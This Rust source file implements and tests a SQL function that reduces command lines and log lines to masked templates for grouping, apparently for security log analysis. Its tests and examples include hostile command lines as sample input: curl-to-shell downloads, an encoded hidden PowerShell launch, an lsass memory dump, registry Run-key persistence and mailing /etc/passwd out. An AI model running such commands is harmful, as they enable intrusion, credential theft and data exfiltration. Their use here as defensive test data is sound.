//! `command_pattern(text)`: a command line without what varies in it.

use super::mask::{Mask, MaskSet, Sink, scan};
use crate::prelude::*;
use std::ops::Range;

/// Options of `command_pattern`.
#[derive(Debug, Clone)]
pub struct PatternOptions {
    masks: MaskSet,
    fold_case: bool,
}

impl Default for PatternOptions {
    fn default() -> Self {
        Self { masks: MaskSet::ALL, fold_case: false }
    }
}

impl Options for PatternOptions {
    const FIELDS: &'static [OptionField] = &[
        OptionField { name: "fold_case", kind: OptionKind::Bool, default: "false", doc: "Write the pattern in lower case." },
        OptionField {
            name: "keep",
            kind: OptionKind::TextList,
            default: "[]",
            doc: "Kinds to leave as they are: `base64`, `email`, `guid`, `hex`, `ip`, `mac`, `num`, `path`, `sid`, `str`, `time`, `url`. \
                  What is in a path or between quotes is masked all the same.",
        },
    ];

    fn set(&mut self, name: &str, setting: Setting) -> Result<(), String> {
        match (name, setting) {
            ("fold_case", Setting::Bool(fold)) => self.fold_case = fold,
            ("keep", Setting::TextList(kinds)) => self.masks = MaskSet::all_but(&kinds)?,
            _ => {}
        }
        Ok(())
    }
}

/// Kernel of `command_pattern`.
pub struct CommandPattern;

impl ScalarKernel for CommandPattern {
    const SPEC: Spec = Spec {
        name: "command_pattern",
        family: Family::Text,
        summary: "Replaces what varies in a command line by masks, so that runs of the same command have the same text.",
        details: include_str!("command_pattern.md"),
        args: &[Arg { name: "text", doc: "A command line. Log messages work as well; `log_templates` finds more of what varies in them." }],
        examples: &[
            Example {
                sql: r#"SELECT command_pattern('"C:\Program Files\x\y.exe" -k 123 -out D:\dump\7.bin') AS pattern"#,
                result: r"<path>\y.exe -k <num> -out <path>\<num>.bin",
            },
            Example {
                sql: "\
WITH runs AS (SELECT cmd FROM (VALUES ('ping -n 16 10.0.0.7'), ('ping -n  4  10.0.0.9'), ('curl -s http://192.0.2.1/a | sh')) v(cmd))
SELECT command_pattern(cmd) AS pattern, count(*) AS n FROM runs GROUP BY command_pattern(cmd) ORDER BY n DESC",
                result: "ping -n <num> <ip> | 2\ncurl -s <url> | sh | 1",
            },
            Example {
                sql: r"SELECT command_pattern('C:\Users\bob\4711.exe /Connect 10.0.0.7', {'keep': ['path', 'ip'], 'fold_case': true}) AS pattern",
                result: r"c:\users\bob\<num>.exe /connect 10.0.0.7",
            },
        ],
    };
    type Args<'a> = (&'a str,);
    type Options = PatternOptions;
    type Out<'a> = &'a str;
    type Scratch = String;

    fn eval<'a>(pattern: &'a mut String, options: &'a PatternOptions, (text,): (&'a str,)) -> KernelResult<&'a str> {
        pattern.clear();
        command_pattern(text, options, pattern);
        Ok(Some(pattern))
    }
}

/// Appends the pattern of `text` to `out`.
pub fn command_pattern(text: &str, options: &PatternOptions, out: &mut String) {
    let start = out.len();
    scan(text, options.masks, &mut Pattern { text, start, space: false, fold_case: options.fold_case, out });
}

struct Pattern<'t, 'o> {
    text: &'t str,
    /// Where the pattern begins in `out`.
    start: usize,
    /// White space was met.
    space: bool,
    fold_case: bool,
    out: &'o mut String,
}

impl Pattern<'_, '_> {
    #[inline]
    fn space_first(&mut self) {
        if self.space && self.out.len() > self.start {
            self.out.push(' ');
        }
        self.space = false;
    }
}

impl Sink for Pattern<'_, '_> {
    const WORDS: bool = false;

    #[inline]
    fn text(&mut self, range: Range<usize>) {
        self.space_first();
        let text = self.text.get(range).unwrap_or("");
        if !self.fold_case {
            self.out.push_str(text);
        } else if text.is_ascii() {
            self.out.extend(text.bytes().map(|b| char::from(b.to_ascii_lowercase())));
        } else {
            self.out.extend(text.chars().flat_map(char::to_lowercase));
        }
    }

    #[inline]
    fn mask(&mut self, mask: Mask, _: Range<usize>) {
        self.space_first();
        self.out.push_str(mask.mark());
    }

    fn space(&mut self) {
        self.space = true;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::options::{Value, parse};

    fn pattern(text: &str, options: &[(&str, Value)]) -> String {
        let fields = options.iter().map(|(name, value)| ((*name).to_owned(), value.clone())).collect();
        let options = parse::<PatternOptions>("command_pattern", &Value::Struct(fields)).unwrap();
        let mut out = String::new();
        command_pattern(text, &options, &mut out);
        out
    }

    #[test]
    #[rustfmt::skip]
    fn cases() {
        for (text, expected) in [
            ("", ""),
            ("   ", ""),
            ("whoami", "whoami"),
            ("whoami   /all", "whoami /all"),
            (r#""C:\Program Files\x\y.exe" -k 123"#, r"<path>\y.exe -k <num>"),
            (r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", r"<path>\svchost.exe -k netsvcs -p -s Schedule"),
            (r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /svc", r"<path>\GoogleUpdate.exe /svc"),
            (r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"<path>\conhost.exe <hex> -ForceV1"),
            (r"\SystemRoot\System32\smss.exe 000000a4 00000084", r"<path>\smss.exe <num> <num>"),
            (r"\\fileserver\share$\tools\psexec.exe \\WS-0042 -u CORP\bob cmd", r"<path>\psexec.exe \\WS-<num> -u CORP\bob cmd"),
            (r"\\?\C:\Users\bob\AppData\Local\Temp\a.exe", r"<path>\a.exe"),
            (r"%APPDATA%\Microsoft\update.exe --silent", r"<path>\update.exe --silent"),
            (r"$env:TEMP\run.ps1", r"<path>\run.ps1"),
            ("~/.ssh/id_rsa", "<path>/id_rsa"),
            ("./configure --prefix=/opt/tool", "./configure --prefix=<path>/tool"),
            (r"..\..\evil.dll,DllMain", r"..\..\evil.dll,DllMain"),
            (r"bin\tool.exe x", r"<path>\tool.exe x"),
            (r"CORP\bob.smith logged on", r"CORP\bob.smith logged on"),
            (r"NT AUTHORITY\SYSTEM", r"NT AUTHORITY\SYSTEM"),
            (r#"cmd.exe /c ""C:\diagnostics\Win.cmd" -15725""#, r#"cmd.exe /c "<path>\Win.cmd -<num>""#),
            (r#"cmd /c "whoami /all & net user bob""#, r#"cmd /c "whoami /all & net user bob""#),
            (r#"bash -c "curl http://203.0.113.7:8080/x.sh | sh""#, r#"bash -c "curl <url> | sh""#),
            ("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "powershell.exe -NoP -W Hidden -Enc <base64>"),
            (r#"powershell -Command "& {Get-Process -Id 4711}""#, r#"powershell -Command "& {Get-Process -Id <num>}""#),
            (r"reg add HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Run /v evil /d C:\x\e.exe", r"reg add HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Run /v evil /d <path>\e.exe"),
            (r#"reg export "HKLM\SYSTEM\CurrentControlSet\Services\ABC 1" C:\Temp\1.reg"#, r"reg export HKLM\SYSTEM\CurrentControlSet\Services\ABC <num> <path>\<num>.reg"),
            (r#"schtasks /create /tn "My Task" /tr C:\Users\Public\a.exe /sc minute /mo 5"#, r"schtasks /create /tn <str> /tr <path>\a.exe /sc minute /mo <num>"),
            (r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full", r"rundll32.exe <path>\comsvcs.dll, MiniDump <num> <path>\lsass.dmp full"),
            ("rundll32 shell32.dll,SHCreateLocalServerRunDll {995C996E-D918-4A8C-A302-45719A6F4EA7}", "rundll32 shell32.dll,SHCreateLocalServerRunDll {<guid>}"),
            (r#"wmic /node:10.1.2.3 process call create "calc.exe""#, "wmic /node:<ip> process call create calc.exe"),
            (r"net use \\10.0.0.5\C$ /user:Administrator Passw0rd", r"net use <path>\C$ /user:Administrator Passw0rd"),
            ("ping -n 16 127.0.0.1", "ping -n <num> <ip>"),
            ("ping fe80::1ff:fe23:4567:890a", "ping <ip>"),
            ("ssh -i /home/bob/.ssh/key root@192.0.2.1 -p 2222", "ssh -i <path>/key root@<ip> -p <num>"),
            ("nc 2001:db8::1 443", "nc <ip> <num>"),
            ("curl -s -o /tmp/ccb0 https://api490.secure-assets.biz:8080/ccb0/index.php?id=2061&t=4027e0", "curl -s -o <path>/<num> <url>"),
            ("wget http://203.0.113.7/a(1).sh, then run it", "wget <url>, then run it"),
            ("hxxp://evil[.]test/gate.php seen", "<url> seen"),
            (r#"mail -s "hello" bob.smith@example.com < /etc/passwd"#, "mail -s hello <email> < <path>/passwd"),
            ("icacls x /grant *S-1-5-32-544:(F)", "icacls x /grant *<sid>:(F)"),
            ("Account S-1-5-21-1004336348-1177238915-682003330-512 added", "Account <sid> added"),
            ("certutil -hashfile a.exe d41d8cd98f00b204e9800998ecf8427e", "certutil -hashfile a.exe <hex>"),
            ("sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "sha256:<hex>"),
            (r#"mscorsvw.exe -StartupEvent 34c -InterruptEvent 0 -NGENProcess 308 -Pipe b5c -Comment "NGen Worker Process""#, "mscorsvw.exe -StartupEvent <num> -InterruptEvent <num> -NGENProcess <num> -Pipe <num> -Comment <str>"),
            (r#"wermgr.exe "-outproc" "0" "2780" "1640""#, "wermgr.exe -outproc <num> <num> <num>"),
            (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /out:C:\Windows\TEMP\RES11C7.tmp", r"<path>\csc.exe /out:<path>\RES<num>.tmp"),
            (r#"lodctr.exe "C:\Windows\TEMP\tmp4AD8.tmp""#, r"lodctr.exe <path>\tmp<num>.tmp"),
            (r#"ngen.exe install "System.Management, Version=4.0.0.0, Culture=neutral" /version:v4.0.30319"#, "ngen.exe install <str> /version:v<num>"),
            ("Windows-KB890830-x64-V5.96.exe /Q /W", "Windows-KB<num>-x64-V<num>.exe /Q /W"),
            ("mpam-d3ea18d4.exe /q WD", "mpam-<num>.exe /q WD"),
            ("python3.9 -m http.server 8000", "python3.<num> -m http.server <num>"),
            ("find / -perm -4000 2>/dev/null", "find / -perm -<num> 2><path>/null"),
            ("dd if=/dev/sda of=disk.img bs=4096 count=10MB", "dd if=<path>/sda of=disk.img bs=<num> count=<num>MB"),
            ("sleep 250ms; kill -9 1234", "sleep <num>ms; kill -<num> <num>"),
            ("iptables -A INPUT -s 10.0.0.0/8 -p tcp --dport 22 -j DROP", "iptables -A INPUT -s <ip>/<num> -p tcp --dport <num> -j DROP"),
            ("echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0Cg== | base64 -d", "echo <base64> | base64 -d"),
            ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "<base64>.<base64>.<base64>"),
            ("backup at 2021-05-04T13:33:31.123Z done", "backup at <time> done"),
            ("backup at 2021-05-04 13:33:31,123 +0200 done", "backup at <time> done"),
            ("next retry is Tue May  4 13:33:31 2021, retry nbr 0", "next retry is <time>, retry nbr <num>"),
            ("May  4 13:33:31 host sshd[1234]: Failed password for root from 192.0.2.1 port 22 ssh2", "<time> host sshd[<num>]: Failed password for root from <ip> port <num> ssh2"),
            (r#"192.0.2.1 - - [04/May/2021:13:33:31 +0000] "GET /index.php HTTP/1.1" 200 512"#, "<ip> - - [<time>] <str> <num> <num>"),
            ("Tue, 04 May 2021 13:33:31 GMT", "<time>"),
            ("04.05.2021 13:33", "<time>"),
            ("link 00:1b:44:11:3a:b7 up, 00-1b-44-11-3a-b8 down", "link <mac> up, <mac> down"),
            (r#"type=SYSCALL msg=audit(1551485405.594:7507): arch=c000003e a0=55f2 a1="x y""#, "type=SYSCALL msg=audit(<num>:<num>): arch=<num> a0=<num> a1=<str>"),
            ("ec2-user e2e.py c99.php ipv6 x64 utf8 rundll32 k8s", "ec2-user e2e.py c99.php ipv6 x64 utf8 rundll32 k8s"),
            ("it's bob's file 'a b' don't", "it's bob's file <str> don't"),
            ("echo 'it is'", "echo <str>"),
            (r#"unbalanced "quote here"#, r#"unbalanced "quote here"#),
            (r#"sc create x binPath= "C:\a b\c.exe -k 7""#, r#"sc create x binPath= "<path>\c.exe -k <num>""#),
            ("echo '' \"\" \"a", "echo '' \"\" \"a"),
            (r#"a="b c" d="e""#, "a=<str> d=e"),
            (r#"/OUT:"C:\a b\c.exe""#, r"/OUT:<path>\c.exe"),
            (r#"cmd.exe /S /D /c" ver ""#, r#"cmd.exe /S /D /c" ver ""#),
            (r#""Foo Bar.exe" -x"#, r#""Foo Bar.exe" -x"#),
            (r#"perl -e "print 1""#, r#"perl -e "print <num>""#),
            ("version 10.0.0.1 address 10.0.0.1", "version <num> address <ip>"),
            ("999.1.2.3 1.2.3.4.5 8.8.8.8.", "<num> <num> <ip>."),
            ("10.20.3000 and 10:20 and 43:18:12", "<num> and <num>:<num> and <time>"),
            ("größe=12 naïve 日本1234語", "größe=<num> naïve 日本<num>語"),
            ("/c /Q /W /bin/ls /tmp", "/c /Q /W <path>/ls /tmp"),
            ("/subscriptions/b1315f05-4a7a-45b4-811f-73e715f7c122/resourceGroups/x/vm", "<path>/vm"),
            ("application/json a/b and/or/not", "application/json a/b <path>/not"),
            ("-x -1 +5 50% $1 #3 (4) [5] {6}", "-x -<num> +<num> <num>% $<num> #<num> (<num>) [<num>] {<num>}"),
            ("<num> <*>", "<num> <*>"),
            ("2>&1 >/dev/null 1>&2", "2>&1 ><path>/null 1>&2"),
            (r"C:\", r"<path>\"),
            (r"C:\temp", r"<path>\temp"),
            ("/", "/"),
            ("//comment", "//comment"),
            ("http://", "http://"),
            ("x@y a@b.c @ bob@", "x@y a@b.c @ bob@"),
        ] {
            assert_eq!(pattern(text, &[]), expected, "{text:?}");
        }
    }

    #[test]
    fn options() {
        let keep = |kinds: &[&str]| ("keep", Value::List(kinds.iter().map(|kind| Value::Text((*kind).to_owned())).collect()));
        for (text, options, expected) in [
            (r#""C:\Users\bob\4711.exe" -x "a 17""#, vec![keep(&["path"])], r"C:\Users\bob\<num>.exe -x <str>"),
            (r#""C:\Users\b c\4711.exe" -x "a 17""#, vec![keep(&["str"])], r#""<path>\<num>.exe" -x "a <num>""#),
            (r#""C:\Users\b c\4711.exe" -x "a 17""#, vec![keep(&["str", "path"])], r#""C:\Users\b c\<num>.exe" -x "a <num>""#),
            (
                "1 10.0.0.7 ::17 x100@b.de http://a/100 200",
                vec![keep(&["ip", "email", "url"])],
                "<num> 10.0.0.7 ::17 x100@b.de http://a/100 <num>",
            ),
            ("10.0.0.1 12:30:00 7 0x1f", vec![keep(&["ip", "TIME", "num", "hex"])], "10.0.0.1 12:30:00 7 0x1f"),
            ("CMD /C ÄÖ 7", vec![("fold_case", Value::Bool(true))], "cmd /c äö <num>"),
        ] {
            assert_eq!(pattern(text, &options), expected, "{text:?}");
        }
        let wrong = Value::Struct(vec![("keep".into(), Value::List(vec![Value::Text("gid".into())]))]);
        let message = parse::<PatternOptions>("command_pattern", &wrong).unwrap_err().to_string();
        assert!(message.contains("'gid'") && message.contains("did you mean 'guid'"), "{message}");
    }

    #[test]
    fn appends() {
        let mut out = "before: ".to_owned();
        command_pattern("  a  7 ", &PatternOptions::default(), &mut out);
        assert_eq!(out, "before: a <num>");
    }
}
